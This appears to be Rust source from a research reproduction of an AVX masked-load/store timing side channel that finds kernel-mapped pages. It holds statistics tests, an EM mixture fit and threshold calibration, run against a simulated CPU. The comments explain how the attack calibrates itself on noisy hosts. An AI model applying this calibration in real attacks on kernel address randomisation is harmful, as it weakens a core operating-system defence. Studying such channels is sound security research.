        assert!(mad.abs() < 1e-12, "tight cluster: {mad}");
        let spread = [87u64, 90, 93, 96, 99];
        let mad = mad_sigma(&spread).unwrap();
        assert!((mad - 3.0 * MAD_CONSISTENCY).abs() < 1e-9, "{mad}");
        // A 2000-cycle interrupt spike cannot move the estimate.
        let spiked = [87u64, 90, 93, 96, 2099];
        let mad = mad_sigma(&spiked).unwrap();
        assert!((mad - 3.0 * MAD_CONSISTENCY).abs() < 1e-9, "{mad}");
        assert_eq!(mad_sigma(&[]), None);
    }

    #[test]
    fn mad_sigma_scratch_is_bit_identical_and_reports_the_count() {
        let mut scratch = Vec::new();
        for samples in [
            vec![],
            vec![93u64],
            vec![90, 93, 93, 93, 96],
            vec![87, 90, 93, 96, 2099],
            (0..257u64).map(|i| 100 + (i * 7919) % 37).collect(),
        ] {
            let reference = mad_sigma(&samples);
            let scratched = mad_sigma_scratch(samples.iter().map(|&x| x as f64), &mut scratch);
            assert_eq!(
                reference.map(f64::to_bits),
                scratched.map(f64::to_bits),
                "{samples:?}"
            );
            assert_eq!(scratch.len(), samples.len(), "count reported via scratch");
        }
    }

    #[test]
    fn trimmed_mean_sheds_tail_contamination() {
        // Midmean of a clean symmetric set is the mean.
        let clean = [91u64, 92, 93, 94, 95];
        assert!((trimmed_mean(&clean, 0.25).unwrap() - 93.0).abs() < 1e-12);
        // One interrupt spike among eight samples: the mean moves by
        // 250 cycles, the midmean does not move at all.
        let spiked = [92u64, 92, 93, 93, 93, 94, 94, 2093];
        let mm = trimmed_mean(&spiked, 0.25).unwrap();
        assert!((mm - 93.0).abs() < 0.5, "midmean {mm}");
        // trim = 0 is the plain mean; extreme trims are clamped sane.
        assert!((trimmed_mean(&clean, 0.0).unwrap() - 93.0).abs() < 1e-12);
        assert!(trimmed_mean(&clean, 0.9).unwrap().is_finite());
        assert_eq!(trimmed_mean(&[], 0.25), None);
        assert_eq!(trimmed_mean(&[42], 0.25), Some(42.0));
    }

    #[test]
    fn two_means_separates_bimodal() {
        // 93-ish vs 107-ish clusters, as in Fig. 4.
        let mut samples = Vec::new();
        for i in 0..100u64 {
            samples.push(92 + i % 3);
            samples.push(106 + i % 3);
        }
        let t = two_means_threshold(&samples).unwrap();
        assert!(t > 94.0 && t < 106.0, "threshold {t}");
    }

    #[test]
    fn two_means_degenerate_cases() {
        assert!(two_means_threshold(&[]).is_none());
        assert!(two_means_threshold(&[5, 5, 5]).is_none());
        assert!(two_means_threshold(&[5, 6]).is_some());
    }

    #[test]
    fn agreement_counts_matches() {
        let d = [true, false, true, true];
        let t = [true, true, true, false];
        assert!((agreement(&d, &t) - 0.5).abs() < 1e-12);
        assert_eq!(agreement(&[], &[]), 1.0);
    }

    #[test]
    fn trials_rate() {
        let mut t = Trials::new();
        for i in 0..1000 {
            t.record(i % 250 != 0);
        }
        assert_eq!(t.total, 1000);
        assert_eq!(t.successes, 996);
        assert!((t.percent() - 99.6).abs() < 1e-9);
        assert_eq!(t.to_string(), "996/1000 (99.60%)");
    }

    #[test]
    fn summary_display_is_compact() {
        let s = Summary::of(&[93, 93, 94]);
        let text = s.to_string();
        assert!(text.contains("93"));
        assert!(text.contains("n=3"));
    }

    #[test]
    fn welford_zero_and_one_sample_moments_are_exact() {
        // 0 samples: everything is 0, not NaN.
        let w = Welford::new();
        assert_eq!(w.count(), 0);
        assert_eq!(w.mean(), 0.0);
        assert_eq!(w.variance(), 0.0);
        assert_eq!(w.stddev(), 0.0);
        assert!(!w.variance().is_nan());
        // 1 sample: mean is the sample, variance is defined as 0.
        let mut w = Welford::new();
        w.push(-17.5);
        assert_eq!(w.count(), 1);
        assert_eq!(w.mean(), -17.5);
        assert_eq!(w.variance(), 0.0);
        assert_eq!(w.stddev(), 0.0);
        // The transition 1 → 2 samples turns variance on.
        w.push(-17.5);
        assert_eq!(w.variance(), 0.0, "two equal samples: zero variance");
        w.push(-11.5);
        assert!(w.variance() > 0.0);
    }

    fn sprt() -> SequentialLlr {
        // Alder Lake-style channel: mapped 93, unmapped 107, σ 1.
        SequentialLlr::new(93.0, 107.0, 1.0, 1e-4)
    }

    #[test]
    fn sequential_llr_decides_fast_on_clean_samples() {
        let mut acc = sprt();
        assert_eq!(acc.decision(), SeqDecision::Undecided);
        // Clamping means one sample is never enough on its own...
        assert_eq!(acc.push(93), SeqDecision::Undecided);
        // ...but two concordant samples decide.
        assert_eq!(acc.push(93), SeqDecision::Mapped);
        assert_eq!(acc.count(), 2);

        let mut acc = sprt();
        acc.push(107);
        assert_eq!(acc.push(107), SeqDecision::Unmapped);
    }

    #[test]
    fn sequential_llr_single_spike_cannot_decide_unmapped() {
        let mut acc = sprt();
        // A 900-cycle interrupt spike on a mapped page: clamped to +A/2.
        assert_eq!(acc.push(900), SeqDecision::Undecided);
        // Honest mapped samples outvote it (spike +A/2 takes three
        // −A/2 samples to reach the −A boundary).
        assert_eq!(acc.push(93), SeqDecision::Undecided);
        assert_eq!(acc.push(93), SeqDecision::Undecided);
        assert_eq!(acc.push(93), SeqDecision::Mapped);
    }

    #[test]
    fn sequential_llr_forced_matches_midpoint_rule() {
        // Forced decision at budget exhaustion = threshold comparison.
        for x in [90u64, 99, 100, 101, 110] {
            let mut acc = sprt();
            acc.push(x);
            let expect = if (x as f64) <= acc.midpoint() {
                SeqDecision::Mapped
            } else {
                SeqDecision::Unmapped
            };
            assert_eq!(acc.forced(), expect, "sample {x}");
        }
        assert_eq!(sprt().midpoint(), 100.0);
    }

    #[test]
    fn sequential_llr_is_order_invariant_in_accumulated_evidence() {
        // Λ is a sum of per-sample terms: any permutation of the same
        // multiset ends at the same Λ (and thus the same forced call).
        let samples = [93u64, 107, 95, 600, 94, 108, 93];
        let mut fwd = sprt();
        let mut rev = sprt();
        for &s in &samples {
            fwd.push(s);
        }
        for &s in samples.iter().rev() {
            rev.push(s);
        }
        assert!((fwd.llr() - rev.llr()).abs() < 1e-12);
        assert_eq!(fwd.forced(), rev.forced());
    }

    #[test]
    fn sequential_llr_noisier_sigma_needs_more_samples() {
        let mut quiet = SequentialLlr::new(93.0, 107.0, 1.0, 1e-4);
        let mut noisy = SequentialLlr::new(93.0, 107.0, 6.0, 1e-4);
        let mut quiet_n = 0;
        let mut noisy_n = 0;
        for n in 1..=64 {
            if quiet_n == 0 && quiet.push(93) != SeqDecision::Undecided {
                quiet_n = n;
            }
            if noisy_n == 0 && noisy.push(93) != SeqDecision::Undecided {
                noisy_n = n;
            }
        }
        assert!(quiet_n > 0 && noisy_n > 0);
        assert!(
            noisy_n > quiet_n,
            "σ=6 must demand more evidence: {noisy_n} vs {quiet_n}"
        );
    }

    #[test]
    fn sequential_llr_degenerate_sigma_is_floored() {
        let mut acc = SequentialLlr::new(93.0, 107.0, 0.0, 1e-4);
        acc.push(93);
        assert!(acc.llr().is_finite());
    }

    #[test]
    #[should_panic(expected = "faster")]
    fn sequential_llr_rejects_inverted_hypotheses() {
        let _ = SequentialLlr::new(107.0, 93.0, 1.0, 1e-4);
    }
}
