//! Two-component Gaussian mixture re-fit (EM), deterministic.

use crate::stats::Welford;

use super::{CalibrationFit, Calibrator, Threshold, Trimmed};

/// σ floor during EM: keeps responsibilities finite when a component
/// tries to collapse onto duplicated samples.
const EM_SIGMA_FLOOR: f64 = 0.25;

/// Maximum EM iterations; convergence is typically < 30.
const EM_MAX_ITERATIONS: u32 = 200;

/// Mean shift below which the fit counts as converged.
const EM_TOLERANCE: f64 = 1e-9;

/// A converged two-component, shared-σ Gaussian mixture fit.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct GaussianMixFit {
    /// Mean of the low-latency (mapped) component.
    pub lo_mean: f64,
    /// Mean of the high-latency (unmapped) component.
    pub hi_mean: f64,
    /// Shared within-component standard deviation.
    pub sigma: f64,
    /// Mixture weight of the low component, in `(0, 1)`.
    pub lo_weight: f64,
    /// Number of samples the fit consumed.
    pub n: usize,
    /// EM iterations until convergence.
    pub iterations: u32,
}

impl GaussianMixFit {
    /// Distance between the two fitted modes (cycles, ≥ 0).
    #[must_use]
    pub fn gap(&self) -> f64 {
        self.hi_mean - self.lo_mean
    }

    /// The decision midpoint between the modes.
    #[must_use]
    pub fn midpoint(&self) -> f64 {
        (self.lo_mean + self.hi_mean) / 2.0
    }

    /// The total standard deviation the fitted mixture implies:
    /// `√(w·(1−w)·gap² + σ²)` — what a single-mode estimator would have
    /// reported for the same data.
    #[must_use]
    pub fn implied_total_sigma(&self) -> f64 {
        let w = self.lo_weight;
        (w * (1.0 - w) * self.gap() * self.gap() + self.sigma * self.sigma).sqrt()
    }

    /// Whether the fit describes two genuinely separate modes rather
    /// than an unimodal sample set EM split down the middle.
    ///
    /// EM bisects *any* unimodal set into two overlapping halves: a
    /// single Gaussian yields a spurious gap of ≈ 1.6 × its total σ, a
    /// uniform band ≈ 1.73 ×. A genuinely bimodal set puts most of the
    /// total dispersion *into* the gap, so requiring
    /// `gap ≥ 1.9 × implied_total_sigma` rejects every unimodal
    /// artifact while accepting real mapped/unmapped structure; both
    /// components must also carry ≥ 3 effective samples (one stray
    /// reading is not a mode).
    #[must_use]
    pub fn is_separated(&self) -> bool {
        let min_mass = self.lo_weight.min(1.0 - self.lo_weight) * self.n as f64;
        min_mass >= 3.0 && self.gap() >= 1.9 * self.implied_total_sigma()
    }
}

/// Fits a two-component, shared-σ Gaussian mixture to `samples` by
/// expectation-maximization. Fully deterministic: initialization splits
/// the sorted samples at the median (lower-half mean vs upper-half
/// mean), so the same input always converges to the same fit.
///
/// Returns `None` on inputs EM cannot say anything about: fewer than 4
/// samples or fewer than 2 distinct values (zero variance). Single-mode
/// inputs *do* return a fit — EM happily bisects one Gaussian — which
/// is why consumers must check [`GaussianMixFit::is_separated`] before
/// trusting the modes.
#[must_use]
pub fn fit_two_gaussians(samples: &[u64]) -> Option<GaussianMixFit> {
    if samples.len() < 4 {
        return None;
    }
    let mut sorted: Vec<f64> = samples.iter().map(|&x| x as f64).collect();
    sorted.sort_unstable_by(f64::total_cmp);
    if sorted.first() == sorted.last() {
        return None; // zero variance: nothing to split
    }

    // Deterministic initialization: median split.
    let mid = sorted.len() / 2;
    let half_mean = |part: &[f64]| {
        let mut w = Welford::new();
        w.extend(part.iter().copied());
        w.mean()
    };
    let mut lo = half_mean(&sorted[..mid]);
    let mut hi = half_mean(&sorted[mid..]);
    let mut sigma = {
        let mut w = Welford::new();
        w.extend(sorted.iter().copied());
        (w.stddev() / 2.0).max(EM_SIGMA_FLOOR)
    };
    let mut lo_weight = 0.5f64;
    let n = sorted.len() as f64;

    for iteration in 1..=EM_MAX_ITERATIONS {
        // E-step: responsibility of the *high* component per sample,
        // computed against the max exponent for stability.
        let inv_two_var = 1.0 / (2.0 * sigma * sigma);
        let (mut sum_r, mut sum_x_lo, mut sum_x_hi, mut sum_sq) = (0.0f64, 0.0f64, 0.0f64, 0.0f64);
        for &x in &sorted {
            let log_lo = lo_weight.max(1e-12).ln() - (x - lo) * (x - lo) * inv_two_var;
            let log_hi = (1.0 - lo_weight).max(1e-12).ln() - (x - hi) * (x - hi) * inv_two_var;
            let m = log_lo.max(log_hi);
            let p_lo = (log_lo - m).exp();
            let p_hi = (log_hi - m).exp();
            let r_hi = p_hi / (p_lo + p_hi);
            sum_r += r_hi;
            sum_x_lo += (1.0 - r_hi) * x;
            sum_x_hi += r_hi * x;
            sum_sq += (1.0 - r_hi) * (x - lo) * (x - lo) + r_hi * (x - hi) * (x - hi);
        }

        // M-step.
        let w_hi = sum_r / n;
        let w_lo = 1.0 - w_hi;
        let new_lo = if w_lo * n > 1e-9 {
            sum_x_lo / (w_lo * n)
        } else {
            lo
        };
        let new_hi = if w_hi * n > 1e-9 {
            sum_x_hi / (w_hi * n)
        } else {
            hi
        };
        let new_sigma = (sum_sq / n).sqrt().max(EM_SIGMA_FLOOR);

        let shift = (new_lo - lo).abs() + (new_hi - hi).abs();
        lo = new_lo;
        hi = new_hi;
        sigma = new_sigma;
        lo_weight = w_lo;
        if shift < EM_TOLERANCE {
            return Some(finish(lo, hi, sigma, lo_weight, sorted.len(), iteration));
        }
    }
    Some(finish(
        lo,
        hi,
        sigma,
        lo_weight,
        sorted.len(),
        EM_MAX_ITERATIONS,
    ))
}

/// Orders the components and packages the fit.
fn finish(
    lo: f64,
    hi: f64,
    sigma: f64,
    lo_weight: f64,
    n: usize,
    iterations: u32,
) -> GaussianMixFit {
    let (lo_mean, hi_mean, lo_weight) = if lo <= hi {
        (lo, hi, lo_weight)
    } else {
        (hi, lo, 1.0 - lo_weight)
    };
    GaussianMixFit {
        lo_mean,
        hi_mean,
        sigma,
        lo_weight,
        n,
        iterations,
    }
}

/// EM-based calibrator: re-fits both timing modes from the samples.
///
/// Fed a genuinely bimodal series (a sweep containing mapped *and*
/// unmapped candidates), the fit recovers the mapped mean (threshold
/// value), half the mode gap (margin — so the decision boundary lands
/// exactly between the modes) and the environment σ. The top 3 % of
/// samples are discarded first so interrupt spikes cannot masquerade as
/// the high mode, mirroring [`Threshold::from_bimodal_samples`].
///
/// Fed the *unimodal* calibration-page series, the separation check
/// rejects EM's artificial split and the fit falls back to the robust
/// [`Trimmed`] estimator (the reported
/// [`CalibrationFit::estimator`] says which path was taken).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Bimodal;

impl Calibrator for Bimodal {
    fn name(&self) -> &'static str {
        "bimodal"
    }

    fn fit(&self, samples: &[u64]) -> CalibrationFit {
        let mut sorted = samples.to_vec();
        sorted.sort_unstable();
        let keep = (sorted.len() * 97).div_ceil(100).max(1).min(sorted.len());
        let despiked = &sorted[..keep];
        if let Some(mix) = fit_two_gaussians(despiked) {
            if mix.is_separated() {
                return CalibrationFit {
                    threshold: Threshold::new(mix.lo_mean, mix.gap() / 2.0),
                    sigma: mix.sigma,
                    estimator: "bimodal",
                };
            }
        }
        Trimmed.fit(samples)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn two_bands(per_band: u64) -> Vec<u64> {
        let mut samples = Vec::new();
        for i in 0..per_band {
            samples.push(91 + (i % 5)); // mean 93
            samples.push(105 + (i % 5)); // mean 107
        }
        samples
    }

    #[test]
    fn em_recovers_two_clean_bands() {
        let mix = fit_two_gaussians(&two_bands(200)).unwrap();
        assert!((mix.lo_mean - 93.0).abs() < 0.5, "{mix:?}");
        assert!((mix.hi_mean - 107.0).abs() < 0.5, "{mix:?}");
        assert!((mix.midpoint() - 100.0).abs() < 0.5);
        assert!(mix.sigma < 2.5, "{mix:?}");
        assert!(mix.is_separated());
        assert!((mix.lo_weight - 0.5).abs() < 0.05);
    }

    #[test]
    fn em_is_deterministic() {
        let samples = two_bands(64);
        assert_eq!(fit_two_gaussians(&samples), fit_two_gaussians(&samples));
    }

    #[test]
    fn em_handles_unbalanced_mixtures() {
        // 1 mapped slot among 63 unmapped — the kernel-base scan shape.
        let mut samples = vec![93u64; 8];
        samples.extend(std::iter::repeat_n(107u64, 504));
        // Wiggle so variance is non-zero in both bands.
        for (i, s) in samples.iter_mut().enumerate() {
            *s += (i as u64) % 3;
        }
        let mix = fit_two_gaussians(&samples).unwrap();
        assert!((mix.lo_mean - 94.0).abs() < 1.5, "{mix:?}");
        assert!((mix.hi_mean - 108.0).abs() < 1.5, "{mix:?}");
        assert!(mix.lo_weight < 0.1, "{mix:?}");
    }

    #[test]
    fn em_degenerate_inputs_return_none() {
        assert_eq!(fit_two_gaussians(&[]), None);
        assert_eq!(fit_two_gaussians(&[93]), None, "tiny n");
        assert_eq!(fit_two_gaussians(&[93, 107, 93]), None, "n < 4");
        assert_eq!(fit_two_gaussians(&[93, 93, 93, 93]), None, "zero variance");
    }

    #[test]
    fn em_single_mode_is_not_separated() {
        // A unimodal Gaussian-ish band: EM bisects it, the separation
        // check must reject the artificial split.
        let samples: Vec<u64> = (0..64).map(|i| 93 + (i % 7)).collect();
        let mix = fit_two_gaussians(&samples).unwrap();
        assert!(!mix.is_separated(), "{mix:?}");
    }

    #[test]
    fn bimodal_calibrator_falls_back_to_trimmed_on_single_mode() {
        let samples: Vec<u64> = (0..16).map(|i| 91 + (i % 5)).collect();
        let fit = Bimodal.fit(&samples);
        assert_eq!(fit.estimator, "trimmed");
        assert!((fit.threshold.value - 93.0).abs() < 1.0, "{fit:?}");
    }

    #[test]
    fn bimodal_calibrator_centers_the_boundary_between_modes() {
        let fit = Bimodal.fit(&two_bands(200));
        assert_eq!(fit.estimator, "bimodal");
        assert!((fit.threshold.value - 93.0).abs() < 0.5, "{fit:?}");
        assert!((fit.threshold.boundary() - 100.0).abs() < 0.5, "{fit:?}");
    }

    #[test]
    fn bimodal_calibrator_sheds_interrupt_spikes() {
        let mut samples = two_bands(100);
        for spike in [1500u64, 2200, 2900] {
            samples.push(spike);
        }
        let fit = Bimodal.fit(&samples);
        assert_eq!(fit.estimator, "bimodal");
        assert!((fit.threshold.boundary() - 100.0).abs() < 1.0, "{fit:?}");
    }
}
