//! Threshold calibration (§IV-B) — now a swappable subsystem.
//!
//! The attack needs a cycle threshold separating kernel-mapped from
//! unmapped probe times *without ever having seen a known kernel page*.
//! The paper's trick: a masked store to a user page whose dirty bit is
//! clear triggers the dirty-bit microcode assist, and its latency equals
//! the kernel-mapped masked-load latency. Timing a few such stores on
//! an own, never-written page yields the reference level directly.
//!
//! Turning those raw timings into a [`Threshold`] is an *estimation*
//! problem, and the right estimator depends on the noise environment:
//!
//! * [`Legacy`] — the original min-pulled floor (`min(mean, min + 2)`).
//!   Optimal on a quiet host where the minimum IS the floor, but on a
//!   wide-σ machine (the `laptop` DVFS preset, σ×6) the minimum of n
//!   Gaussian samples drifts ≈ 1.7 σ *below* the true level, dragging
//!   the decision boundary with it — the calibration bottleneck the
//!   ROADMAP recorded after PR 2.
//! * [`Trimmed`] — midmean (25 % trimmed mean) location with a MAD
//!   scale estimate: unbiased under symmetric jitter of any width,
//!   immune to one-sided interrupt-spike contamination (NetSpectre's
//!   difference-of-means lesson, applied to the floor estimate).
//! * [`Bimodal`] — a deterministic two-component Gaussian EM re-fit
//!   that recovers the mapped/unmapped means *and* the environment σ
//!   from a sample set that contains both populations (e.g. one full
//!   512-slot sweep), falling back to [`Trimmed`] on single-mode input.
//! * [`NoiseAware`] — the auto-selector: measures the dispersion of the
//!   calibration samples ([`crate::stats::mad_sigma`]) and picks
//!   [`Legacy`] below [`NOISE_AWARE_SIGMA_CUTOFF`], [`Trimmed`] above
//!   it. Quiet-host calibrations remain bit-exact with the historical
//!   code; wide-σ environments get the robust floor.
//!
//! Estimators implement the [`Calibrator`] trait; [`CalibratorKind`] is
//! the `Copy` handle that campaign configs, attacks and the `repro
//! --calibrator <name>` flag thread around.
//!
//! # Example: one calibration, four estimators
//!
//! ```
//! use avx_channel::calibrate::{CalibratorKind, Threshold};
//! use avx_channel::SimProber;
//! use avx_os::linux::{LinuxConfig, LinuxSystem};
//! use avx_uarch::CpuProfile;
//!
//! let sys = LinuxSystem::build(LinuxConfig::seeded(7));
//! let (machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 7);
//! let mut p = SimProber::new(machine);
//!
//! // The historical entry point is the Legacy estimator, bit-exact:
//! let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
//!
//! // The full subsystem returns a CalibrationFit: threshold + robust
//! // dispersion estimate + which estimator actually produced it.
//! let fit = Threshold::calibrate_with(
//!     &mut p,
//!     truth.user.calibration,
//!     16,
//!     CalibratorKind::NoiseAware,
//! );
//! assert_eq!(fit.estimator, "legacy"); // quiet host → Legacy selected
//! assert!(fit.threshold.is_mapped(93));
//! assert!(!fit.threshold.is_mapped(107));
//! assert!((fit.threshold.value - th.value).abs() < 1e-12);
//! ```

use core::fmt;

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::prober::Prober;
use crate::stats::{mad_sigma, two_means_threshold};

mod em;
mod legacy;
mod robust;

pub use em::{fit_two_gaussians, Bimodal, GaussianMixFit};
pub use legacy::Legacy;
pub use robust::Trimmed;

/// A mapped/unmapped decision threshold in cycles.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Threshold {
    /// The calibrated reference latency (≈ the kernel-mapped level).
    pub value: f64,
    /// Acceptance margin above `value` (defaults to half the
    /// mapped↔unmapped gap the paper reports, 14/2 = 7 cycles).
    pub margin: f64,
}

/// Default acceptance margin in cycles.
pub const DEFAULT_MARGIN: f64 = 7.0;

/// One fitted calibration: the threshold plus the evidence behind it.
///
/// Produced by [`Calibrator::fit`] / [`Threshold::calibrate_with`]. The
/// extra fields feed the adaptive engine:
/// [`crate::AdaptiveSampler::from_fit`] builds its SPRT hypotheses from
/// `threshold` and its likelihood σ from `sigma`, so a robustly
/// calibrated attack also models the environment it measured instead of
/// assuming a quiet host.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct CalibrationFit {
    /// The fitted decision threshold.
    pub threshold: Threshold,
    /// Robust dispersion estimate of the calibration samples (cycles);
    /// what the environment's Gaussian σ looks like from the attacker's
    /// seat.
    pub sigma: f64,
    /// Name of the estimator that actually produced the fit (for
    /// [`NoiseAware`] / [`Bimodal`] this reports the concrete fallback
    /// taken, not the selector).
    pub estimator: &'static str,
}

/// A threshold estimator: turns raw calibration-page timings into a
/// [`CalibrationFit`].
///
/// Implementations must be deterministic pure functions of the sample
/// slice — the campaign golden suite pins their outputs — and must
/// accept degenerate input (empty, single-sample, zero-variance)
/// without panicking.
pub trait Calibrator {
    /// Stable estimator name (what `repro --calibrator` accepts).
    fn name(&self) -> &'static str;

    /// Fits a threshold from calibration samples, in probe order.
    fn fit(&self, samples: &[u64]) -> CalibrationFit;
}

/// MAD-σ above which [`NoiseAware`] abandons the min-pulled [`Legacy`]
/// floor for the robust [`Trimmed`] estimator.
///
/// The quiet and SMT presets of the evaluated profiles sit at σ ≈ 1 and
/// σ ≈ 3; the expected min-pull bias of n = 16 samples (≈ 1.7 σ) stays
/// inside the legacy `min + 2` clamp for σ ⪅ 1.2, so anything clearly
/// above that needs the robust floor. 2.0 splits the presets with slack
/// on both sides.
pub const NOISE_AWARE_SIGMA_CUTOFF: f64 = 2.0;

/// Dispersion-driven estimator auto-selection: [`Legacy`] in
/// low-dispersion environments (bit-exact with the historical
/// calibration), [`Trimmed`] once the measured MAD-σ exceeds
/// [`NOISE_AWARE_SIGMA_CUTOFF`].
///
/// The selection is data-driven — the attacker needs no oracle
/// knowledge of the victim's [`avx_uarch::NoiseProfile`]; the
/// calibration samples themselves reveal the dispersion.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct NoiseAware;

impl Calibrator for NoiseAware {
    fn name(&self) -> &'static str {
        "noise-aware"
    }

    fn fit(&self, samples: &[u64]) -> CalibrationFit {
        let dispersion = mad_sigma(samples).unwrap_or(0.0);
        if dispersion <= NOISE_AWARE_SIGMA_CUTOFF {
            Legacy.fit(samples)
        } else {
            Trimmed.fit(samples)
        }
    }
}

/// `Copy` handle naming one of the built-in estimators — what
/// [`crate::attacks::campaign::CampaignConfig`] and the
/// `repro --calibrator` flag carry around.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, Default)]
pub enum CalibratorKind {
    /// The historical min-pulled floor ([`Legacy`]); the default, and
    /// bit-exact with the pre-subsystem `Threshold::calibrate`.
    #[default]
    Legacy,
    /// Midmean/MAD robust floor ([`Trimmed`]).
    Trimmed,
    /// Two-component Gaussian EM re-fit ([`Bimodal`]).
    Bimodal,
    /// Dispersion-driven auto-selection ([`NoiseAware`]).
    NoiseAware,
}

impl CalibratorKind {
    /// All built-in estimators, default first.
    pub const ALL: [CalibratorKind; 4] = [
        CalibratorKind::Legacy,
        CalibratorKind::Trimmed,
        CalibratorKind::Bimodal,
        CalibratorKind::NoiseAware,
    ];

    /// Stable identifier (also what [`CalibratorKind::parse`] accepts).
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            CalibratorKind::Legacy => "legacy",
            CalibratorKind::Trimmed => "trimmed",
            CalibratorKind::Bimodal => "bimodal",
            CalibratorKind::NoiseAware => "noise-aware",
        }
    }

    /// Parses an estimator name (`legacy`, `trimmed`, `bimodal`,
    /// `noise-aware`, plus the aliases `min`, `midmean`, `em`, `auto`).
    #[must_use]
    pub fn parse(name: &str) -> Option<Self> {
        match name.trim().to_ascii_lowercase().as_str() {
            "legacy" | "min" => Some(CalibratorKind::Legacy),
            "trimmed" | "midmean" => Some(CalibratorKind::Trimmed),
            "bimodal" | "em" => Some(CalibratorKind::Bimodal),
            "noise-aware" | "noiseaware" | "auto" => Some(CalibratorKind::NoiseAware),
            _ => None,
        }
    }
}

impl Calibrator for CalibratorKind {
    fn name(&self) -> &'static str {
        (*self).name()
    }

    fn fit(&self, samples: &[u64]) -> CalibrationFit {
        match self {
            CalibratorKind::Legacy => Legacy.fit(samples),
            CalibratorKind::Trimmed => Trimmed.fit(samples),
            CalibratorKind::Bimodal => Bimodal.fit(samples),
            CalibratorKind::NoiseAware => NoiseAware.fit(samples),
        }
    }
}

impl fmt::Display for CalibratorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self.name())
    }
}

/// Collects the §IV-B calibration series: warm the translation with a
/// masked load (TLB hit for every timed sample), then time `samples`
/// all-zero-mask stores. The zero mask never sets D, so every store
/// replays the dirty assist and the series sits on the kernel-mapped
/// latency level.
fn collect_reference_series<P: Prober + ?Sized>(
    p: &mut P,
    page: VirtAddr,
    samples: usize,
) -> Vec<u64> {
    let _ = p.probe(OpKind::Load, page);
    (0..samples.max(1))
        .map(|_| p.probe(OpKind::Store, page))
        .collect()
}

impl Threshold {
    /// Builds a threshold from an explicit reference value.
    #[must_use]
    pub fn new(value: f64, margin: f64) -> Self {
        Self { value, margin }
    }

    /// Calibrates per the paper with the default [`Legacy`] estimator:
    /// warm the calibration page's translation with a masked load, then
    /// time `samples` all-zero-mask stores and take the min-pulled
    /// floor. Bit-exact with the pre-subsystem implementation.
    ///
    /// `calibration_page` must be a writable, never-written (D = 0) page
    /// owned by the attacker — [`avx_os::linux::UserContext::calibration`]
    /// provides one. See [`Threshold::calibrate_with`] to choose the
    /// estimator.
    pub fn calibrate<P: Prober + ?Sized>(
        p: &mut P,
        calibration_page: VirtAddr,
        samples: usize,
    ) -> Self {
        Self::calibrate_with(p, calibration_page, samples, CalibratorKind::Legacy).threshold
    }

    /// Calibrates with an explicit estimator; identical probe schedule
    /// to [`Threshold::calibrate`] (one warm-up load + `samples` timed
    /// stores), the estimators differ only in how they turn the series
    /// into a threshold.
    pub fn calibrate_with<P: Prober + ?Sized, C: Calibrator>(
        p: &mut P,
        calibration_page: VirtAddr,
        samples: usize,
        calibrator: C,
    ) -> CalibrationFit {
        calibrator.fit(&collect_reference_series(p, calibration_page, samples))
    }

    /// Store-probe calibration (P6) with the default [`Legacy`]
    /// estimator: a masked *store* to an own non-writable page pays
    /// `base_store + assist_store` — exactly the kernel-mapped
    /// masked-store latency, i.e. the reference level for store-based
    /// scans (§IV-F probes with stores to save the 16–18 cycle
    /// load/store delta on every probe).
    ///
    /// `read_only_page` must be an own mapped page without write
    /// permission (the attacker's text section works).
    pub fn calibrate_store<P: Prober + ?Sized>(
        p: &mut P,
        read_only_page: VirtAddr,
        samples: usize,
    ) -> Self {
        Self::calibrate_store_with(p, read_only_page, samples, CalibratorKind::Legacy).threshold
    }

    /// [`Threshold::calibrate_store`] with an explicit estimator.
    pub fn calibrate_store_with<P: Prober + ?Sized, C: Calibrator>(
        p: &mut P,
        read_only_page: VirtAddr,
        samples: usize,
        calibrator: C,
    ) -> CalibrationFit {
        calibrator.fit(&collect_reference_series(p, read_only_page, samples))
    }

    /// The historical k-means bootstrap: split a bimodal sample set
    /// (e.g. one full 512-slot scan) into two clusters and threshold at
    /// the midpoint.
    ///
    /// **Superseded** by [`Threshold::refit_bimodal`] for the
    /// no-calibration-page path (Windows guests) and for in-scan
    /// recalibration ([`crate::recal::Recalibrating`]): the EM re-fit
    /// places the boundary at the same midpoint on clean input (pinned
    /// within tolerance by `crates/core/tests/recal_props.rs`) and
    /// additionally recovers the environment σ the adaptive engine
    /// needs. Kept as a fallback for landscapes the EM
    /// separation-honesty check rejects.
    ///
    /// Interrupt spikes would otherwise form their own far-away cluster
    /// and swallow both real bands, so the top few percent of samples
    /// are trimmed before clustering.
    #[must_use]
    pub fn from_bimodal_samples(samples: &[u64]) -> Option<Self> {
        if samples.is_empty() {
            return None;
        }
        let mut sorted = samples.to_vec();
        sorted.sort_unstable();
        let keep = (sorted.len() * 97).div_ceil(100).max(1);
        let trimmed = &sorted[..keep];
        two_means_threshold(trimmed).map(|mid| Self {
            // `is_mapped` accepts value + margin; center the midpoint.
            value: mid - DEFAULT_MARGIN,
            margin: DEFAULT_MARGIN,
        })
    }

    /// Re-fits the threshold from a sweep's *bimodal* sample set via
    /// the two-component EM estimator: value lands on the fitted mapped
    /// mean, margin on half the fitted mode gap, and the returned fit
    /// carries the recovered environment σ. `None` when the samples do
    /// not separate into two modes (see [`fit_two_gaussians`]).
    ///
    /// This is the in-scan re-estimation primitive: a sweep's own raw
    /// series contains both timing populations, so an attack can keep
    /// its calibration honest without ever revisiting a calibration
    /// page — the closed-loop [`crate::recal::Recalibrating`] driver
    /// calls this on its drift window, and a Windows guest with no
    /// clean calibration page can bootstrap from a first blind pass:
    ///
    /// ```
    /// use avx_channel::{KernelBaseFinder, SimProber, Threshold};
    /// use avx_os::linux::{LinuxConfig, LinuxSystem};
    /// use avx_uarch::CpuProfile;
    ///
    /// let sys = LinuxSystem::build(LinuxConfig::seeded(62));
    /// let (machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 62);
    /// let mut p = SimProber::new(machine);
    ///
    /// // A blind first pass (threshold irrelevant) just collects the series...
